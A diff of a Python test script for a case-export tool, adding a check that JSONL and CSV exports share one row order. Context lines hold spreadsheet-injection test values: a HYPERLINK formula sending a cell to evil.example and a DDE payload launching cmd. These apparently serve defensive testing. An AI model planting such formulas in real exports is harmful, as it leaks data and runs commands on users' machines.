@@ -171,6 +171,16 @@ def check_columns(case):
             expect(first[:12] == titles, f"csv columns of {form[0]} in {language}: {first}")
 
 
+def check_order(case):
+    """For programs: known_at, then source, then id, both tabs in one order; what has no time stands last."""
+    rows = [json.loads(line) for line in run("case", "export", case, "--format", "jsonl").splitlines()]
+    keys = [(row["known_at"] is None, row["known_at"] or "", row["source"].encode(), row["id"]) for row in rows]
+    expect(keys == sorted(keys), f"jsonl: not in the order of docs/cli.md: {[row['row'] for row in rows]}")
+    expect({"action", "message"} <= {row["kind"] for row in rows}, "jsonl: a tab is missing")
+    table = list(csv.DictReader(io.StringIO(run("case", "export", case, "--lang", "en", "--format", "csv").decode("utf-8-sig"))))
+    expect([row["Id"] for row in table] == [row["id"] for row in rows if row["kind"] != "action"], "csv: another order than jsonl")
+
+
 HOSTILE = {
     "formula": "=HYPERLINK(\"http://evil.example/?x=\"&A1)",
     "command": "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -328,10 +338,12 @@ def main():
         case = article_case(folder)
         check_article_workbook(case, folder)
         check_columns(case)
+        check_order(case)
         check_report(case, folder)
         check_struck(case, folder)
         hostile = hostile_case(folder)
         check_hostile(hostile, folder)
+        check_order(hostile)
         check_timesketch(hostile)
         check_timestamp(hostile, folder)
         check_scan(folder)
